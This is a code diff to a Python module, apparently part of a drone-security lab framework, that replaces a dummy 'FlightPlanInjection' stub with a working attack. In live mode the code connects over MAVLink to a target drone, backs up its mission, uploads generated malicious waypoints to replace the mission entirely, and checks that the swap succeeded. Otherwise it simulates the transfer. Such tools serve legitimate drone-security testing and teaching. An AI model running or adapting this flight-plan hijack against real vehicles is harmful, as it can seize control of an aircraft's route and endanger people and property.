@@ -1,25 +1,78 @@
 # dvd_lite/dvd_attacks/injection/flight_plan.py
 """
-FlightPlanInjection 공격 (더미 구현)
+FlightPlanInjection 공격
+generate_waypoints로 악성 미션을 만들고 MissionTransfer로 대상의 미션을 통째로 교체한다.
+live=True면 실제 MAVLink 미션 프로토콜을 사용하고, 그 외에는 전송을 시뮬레이션한다.
+
+주요 파라미터 (run_attack 키워드):
+    live, mavlink_port, pattern, waypoint_count, center(lat, lon), altitude, window, timeout, backup, verify
 """
 import asyncio
-import random
 from typing import Tuple, List, Dict, Any
 from ..core.attack_base import BaseAttack
 from ..core.enums import AttackType
+from ... import mavlink
+from .mission_engine import MissionTransfer, MissionTransferError, generate_waypoints, NUMPY_AVAILABLE
+
+DEFAULT_CENTER = (37.7749, -122.4194)
 
 class FlightPlanInjection(BaseAttack):
     """FlightPlanInjection 공격"""
-    
+
     def _get_attack_type(self) -> AttackType:
-        return AttackType.RECONNAISSANCE  # 기본값
-    
+        return AttackType.INJECTION
+
     async def _run_attack(self) -> Tuple[bool, List[str], Dict[str, Any]]:
-        """더미 공격 로직"""
-        await asyncio.sleep(random.uniform(1.0, 3.0))
-        
-        success = random.random() > 0.3
-        iocs = [f"FLIGHTPLANINJECTION_IOC:dummy_indicator"]
-        details = {"success_rate": 0.7 if success else 0.2}
-        
+        if not NUMPY_AVAILABLE:
+            return await self._simulate({})
+
+        pattern = self.config.get("pattern", "orbit")
+        columns = generate_waypoints(pattern, *self.config.get("center", DEFAULT_CENTER),
+                                     count=self.config.get("waypoint_count", 100),
+                                     altitude=self.config.get("altitude", 50.0))
+        details = {"pattern": pattern, "mission_items": len(columns["seq"])}
+
+        if not self.config.get("live"):
+            return await self._simulate(details)
+
+        target = (self.target_ip, self.config.get("mavlink_port", 14550))
+        async with await mavlink.MAVLinkClient.connect(target) as client:
+            transfer = MissionTransfer(client, window=self.config.get("window", 32),
+                                       timeout=self.config.get("timeout", 0.5))
+            try:
+                if self.config.get("backup", True):
+                    original, report = await transfer.download()
+                    details.update(original_items=len(original["seq"]), backup=report.to_dict())
+                    self.record_progress(**details)
+
+                report = await transfer.upload(columns)
+                details["upload"] = report.to_dict()
+                self.record_progress(**details)
+
+                if self.config.get("verify", False):
+                    uploaded, _ = await transfer.download()
+                    details["verified"] = bool((uploaded["x"] == columns["x"]).all() and
+                                               (uploaded["y"] == columns["y"]).all())
+            except MissionTransferError as e:
+                details.update(error=str(e), success_rate=0.0)
+                return False, [], details
+
+        success = details.get("verified", True)
+        details["success_rate"] = 1.0 if success else 0.0
+        return success, self._iocs(details), details
+
+    async def _simulate(self, details: Dict[str, Any]) -> Tuple[bool, List[str], Dict[str, Any]]:
+        """전송 시뮬레이션"""
+        await asyncio.sleep(self.random.uniform(1.0, 3.0))
+
+        success = self.random.random() > 0.3
+        details = dict(details, success_rate=0.7 if success else 0.2)
+        iocs = self._iocs(details) if "pattern" in details else ["FLIGHTPLANINJECTION_IOC:dummy_indicator"]
+
         return success, iocs, details
+
+    def _iocs(self, details: Dict[str, Any]) -> List[str]:
+        iocs = [f"MISSION_REPLACED:{self.target_ip}:{details['pattern']}:{details['mission_items']}_items"]
+        if "original_items" in details:
+            iocs.append(f"MISSION_BACKUP:{details['original_items']}_items")
+        return iocs